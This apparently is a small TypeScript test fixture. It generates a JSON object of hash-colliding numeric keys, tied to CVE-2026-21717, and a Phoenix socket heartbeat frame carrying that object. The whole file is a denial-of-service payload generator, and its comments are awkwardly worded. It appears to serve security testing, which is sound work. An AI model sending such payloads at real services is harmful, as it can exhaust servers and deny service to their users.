/** The bytes that a service of accounts that reads a megabyte would take. */
const BYTES = 237_000;
/** Numbers of the last bits alike: such names share a position in a table of names, and each is compared with all before it. */
const STEP = 1 << 13;

/** A JSON object whose names collide (CVE-2026-21717). */
export const COLLIDING = objectOf(BYTES);

/** The same as a frame of a socket, of this many bytes. */
export const collidingFrame = (bytes: number): string => `[null,"1","phoenix","heartbeat",${objectOf(bytes)}]`;

function objectOf(bytes: number): string {
  const members: string[] = [];
  for (let length = 2, number = STEP; length < bytes; number += STEP) {
    const member = `"${number}":0`;
    members.push(member);
    length += member.length + 1;
  }
  return `{${members.join(',')}}`;
}
